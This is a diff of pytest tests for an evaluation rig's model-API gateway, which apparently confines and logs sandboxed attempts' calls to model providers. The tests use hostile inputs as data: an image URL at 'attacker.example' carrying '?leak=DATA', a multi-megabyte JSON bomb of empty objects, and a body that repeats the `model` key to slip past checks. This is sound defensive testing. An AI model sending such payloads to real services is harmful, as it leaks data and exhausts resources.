@@ -546,3 +546,193 @@ def test_content_the_provider_would_fetch_is_refused_and_inline_content_is_not(
     lines = closed_lines(sess)
     assert [x["refused"] for x in lines] == ["feature"] * len(refused) + [None] * len(allowed)
     assert len(stand.requests()) == len(allowed)
+
+
+def _raw_request(target: str, body: bytes) -> bytes:
+    return (f"POST {target} HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
+            f"Content-Length: {len(body)}\r\n\r\n").encode() + body
+
+
+def test_a_body_of_countless_empty_objects_is_refused_before_it_is_parsed(sess: Opened, stand: Standin) -> None:
+    """`[{},{},...]` in 7 MiB parses to ~200 MiB of Python objects: refused by its count of
+    JSON containers (strings left out of the count), never built, never forwarded."""
+    from evalrig.attempt.gateway.server import MAX_CONTAINERS
+
+    bomb = b'{"model":"gpt-test","messages":[' + b",".join([b"{}"] * 2_500_000) + b"]}"
+    status, _, data = raw_call(sess.port, "POST", CHAT, bomb)
+    assert status == 413, data
+    assert b"JSON arrays and objects" in data
+    # braces inside strings are text, not containers: a long code listing passes
+    code = "{[" * (MAX_CONTAINERS + 10)
+    status, _, data = raw_call(sess.port, "POST", CHAT, chat("gpt-test", code))
+    assert status == 200, data
+    lines = closed_lines(sess)
+    assert [(x["status"], x["refused"]) for x in lines] == [(413, "size"), (200, None)]
+    assert len(stand.requests()) == 1
+
+
+def test_bodies_held_by_calls_not_yet_admitted_are_bounded_per_sandbox(stand: Standin, tmp_path: Path) -> None:
+    """While its slots are busy, a sandbox's waiting calls may hold at most HELD_LIMIT bytes
+    of bodies in the rig; a call past it gets 503 (and its line) rather than waiting."""
+    from evalrig.attempt.gateway.server import HELD_LIMIT
+
+    stand.clear()
+    g = gateway(stand, timeout_s=20.0)
+    try:
+        o = open_session(g, tmp_path / "held", allowed=ALLOWED)
+        slow = [threading.Thread(target=_swallow, args=(raw_call, o.port, "POST", CHAT, chat("slow-5000")))
+                for _ in range(IN_FLIGHT)]
+        for t in slow:
+            t.start()
+        time.sleep(0.8)  # the four slots are taken
+        big = chat("gpt-test", "x" * (7 << 20))
+        n = HELD_LIMIT // len(big) + 3
+        statuses: list[int] = []
+        waiting = [threading.Thread(target=lambda: statuses.append(_status(o.port, big))) for _ in range(n)]
+        for t in waiting:
+            t.start()
+        for t in waiting + slow:
+            t.join(60)
+        lines = closed_lines(o)
+    finally:
+        g.close()
+    assert sorted(statuses).count(503) >= 3, statuses
+    assert sorted(statuses).count(200) >= 1, statuses
+    assert len(lines) == IN_FLIGHT + n
+    held = [x for x in lines if x["status"] == 503]
+    assert all("hold" in x["error"] for x in held)
+    assert len(stand.requests()) == IN_FLIGHT + statuses.count(200)
+
+
+def _status(port: int, body: bytes) -> int:
+    try:
+        return raw_call(port, "POST", CHAT, body)[0]
+    except OSError:  # the gateway closed the connection while the body was still going out
+        return 503
+
+
+def test_after_close_returns_every_call_has_its_line_and_no_line_comes_later(
+        stand: Standin, tmp_path: Path) -> None:
+    """Calls with big bodies queued behind the slots when the sandbox ends: close() waits
+    for them (the ones not admitted stop at their next step, their queued checks cancelled);
+    every request has its line by then and the evidence never changes afterwards."""
+    stand.clear()
+    g = gateway(stand, timeout_s=1.0)
+    try:
+        o = open_session(g, tmp_path / "late", allowed=ALLOWED + ("openai/slow-4000",))
+        socks = []
+        for _ in range(IN_FLIGHT):
+            s = socket.create_connection(("127.0.0.1", o.port))
+            s.sendall(_raw_request(CHAT, chat("slow-4000")))
+            socks.append(s)
+        time.sleep(0.5)
+        bomb = b'{"model":"gpt-test","messages":[' + b",".join([b"{}"] * 2_600_000) + b"]}"
+        for _ in range(8):
+            s = socket.create_connection(("127.0.0.1", o.port))
+            s.sendall(_raw_request(CHAT, bomb))
+            socks.append(s)
+        time.sleep(1)
+        o.session.close()
+        at_close = (o.evidence / "model.jsonl").read_bytes()
+        time.sleep(3)
+        later = (o.evidence / "model.jsonl").read_bytes()
+        for s in socks:
+            s.close()
+    finally:
+        g.close()
+    assert at_close.count(b"\n") == len(socks)
+    assert later == at_close
+
+
+def test_a_request_whose_body_never_finished_still_has_its_line(sess: Opened, stand: Standin) -> None:
+    s = socket.create_connection(("127.0.0.1", sess.port))
+    s.sendall(b"POST /openai/v1/chat/completions HTTP/1.1\r\nHost: x\r\nContent-Length: 1000\r\n\r\n"
+              b'{"model":')
+    time.sleep(0.5)
+    s.close()
+    time.sleep(0.5)
+    [line] = closed_lines(sess)
+    assert line["status"] == 400 and "body was whole" in line["error"]
+    assert line["request_sha256"] == "sha256:" + __import__("hashlib").sha256(b'{"model":').hexdigest()
+    assert stand.requests() == []
+
+
+def test_stored_prompts_items_and_any_store_but_false_are_refused(sess: Opened, stand: Standin) -> None:
+    """State kept at the provider (a stored prompt template whose variables name URLs and
+    files, a stored item, `store` other than false however spelt) outlives the attempt."""
+    resp = "/openai/v1/responses"
+    url = "https://attacker.example/x.png?leak=DATA"
+    refused = [
+        (resp, {"model": "gpt-test", "input": "hi", "prompt": {"id": "pmpt_1", "variables": {
+            "img": {"type": "input_image", "image_url": url}}}}),
+        (resp, {"model": "gpt-test", "input": "hi", "prompt": {"id": "pmpt_1"}}),
+        (resp, {"model": "gpt-test", "input": [{"type": "item_reference", "id": "msg_1"}]}),
+        (resp, {"model": "gpt-test", "input": [{"id": "msg_1"}]}),  # an item reference's type is optional
+        (resp, {"model": "gpt-test", "input": "hi", "store": 1}),
+        (CHAT, {"model": "gpt-test", "messages": [{"role": "user", "content": "hi"}], "store": 1}),
+        (CHAT, {"model": "gpt-test", "messages": [{"role": "user", "content": "hi"}], "store": "true"}),
+        (CHAT, {"model": "gpt-test", "messages": [{"role": "user", "content": "hi"}], "store": True}),
+        # a fetched part under a key the walk has no name for is still found
+        (CHAT, {"model": "gpt-test", "messages": [{"role": "user", "content": "hi"}],
+                "metadata": {"parts": [{"type": "image_url", "image_url": {"url": " " + url}}]}}),
+        # a key the gateway does not know is not forwarded (a feature added later)
+        (CHAT, {"model": "gpt-test", "messages": [{"role": "user", "content": "hi"}], "stored_context": "c1"}),
+        (resp, {"model": "gpt-test", "input": "hi", "messages": []}),
+        (MSGS, {"model": "claude-test", "max_tokens": 5, "messages": [{"role": "user", "content": "hi"}],
+                "input": "x"}),
+    ]
+    for target, body in refused:
+        status, _, data = raw_call(sess.port, "POST", target, json.dumps(body).encode())
+        assert status == 403 and b"permission_error" in data, (body, data)
+    allowed = [
+        (resp, {"model": "gpt-test", "input": "hi", "prompt": None, "store": None}),
+        (CHAT, {"model": "gpt-test", "messages": [{"role": "user", "content": "hi"}], "store": None}),
+        (CHAT, {"model": "gpt-test", "messages": [{"role": "user", "content": "hi"}], "store": False}),
+        (CHAT, {"model": "gpt-test", "messages": [{"role": "user", "content": "hi"}], "top_k": 5}),
+    ]
+    for target, body in allowed:
+        status, _, data = raw_call(sess.port, "POST", target, json.dumps(body).encode())
+        assert status == 200, (body, data)
+    got = [r["body"] for r in stand.requests()]
+    assert [b.get("store", "absent") for b in got] == [False, False, False, "absent"]
+    lines = closed_lines(sess)
+    assert [x["refused"] for x in lines] == ["feature"] * len(refused) + [None] * len(allowed)
+
+
+def test_audio_in_or_out_is_refused_as_the_rig_cannot_price_it(sess: Opened, stand: Standin) -> None:
+    refused = [
+        {"model": "gpt-test", "modalities": ["text", "audio"], "audio": {"voice": "alloy", "format": "wav"},
+         "messages": [{"role": "user", "content": "hi"}]},
+        {"model": "gpt-test", "modalities": ["audio"], "messages": [{"role": "user", "content": "hi"}]},
+        {"model": "gpt-test", "audio": {"voice": "alloy", "format": "wav"},
+         "messages": [{"role": "user", "content": "hi"}]},
+        {"model": "gpt-test", "messages": [{"role": "user", "content": [
+            {"type": "input_audio", "input_audio": {"data": "UklGRg==", "format": "wav"}}]}]},
+        {"model": "gpt-test", "messages": [{"role": "user", "content": "hi"},
+                                           {"role": "assistant", "audio": {"id": "audio_1"}}]},
+    ]
+    for body in refused:
+        status, _, data = raw_call(sess.port, "POST", CHAT, json.dumps(body).encode())
+        assert status == 403 and b"feature_not_allowed" in data, (body, data)
+    status, _, data = raw_call(sess.port, "POST", CHAT, chat("gpt-test", modalities=["text"]))
+    assert status == 200, data
+    assert len(stand.requests()) == 1
+
+
+def test_the_provider_reads_the_json_the_gateway_checked_whatever_keys_repeat(sess: Opened, stand: Standin) -> None:
+    """With `model` given twice, a provider whose parser takes the first would run a model the
+    gateway never checked: what goes upstream is the checked JSON re-serialized (one `model`);
+    the line's request_sha256 is still over the body as sent."""
+    import hashlib
+
+    import orjson
+
+    raw = b'{"model":"not-allowed","max_tokens":20,"model":"claude-test","messages":[{"role":"user","content":"hi"}]}'
+    status, _, data = raw_call(sess.port, "POST", MSGS, raw)
+    assert status == 200, data
+    [got] = stand.requests()
+    assert got["body_sha256"] == hashlib.sha256(orjson.dumps(orjson.loads(raw))).hexdigest()
+    assert got["body_sha256"] != hashlib.sha256(raw).hexdigest()
+    [line] = closed_lines(sess)
+    assert line["request_sha256"] == "sha256:" + hashlib.sha256(raw).hexdigest()
+    assert line["model"] == "claude-test"
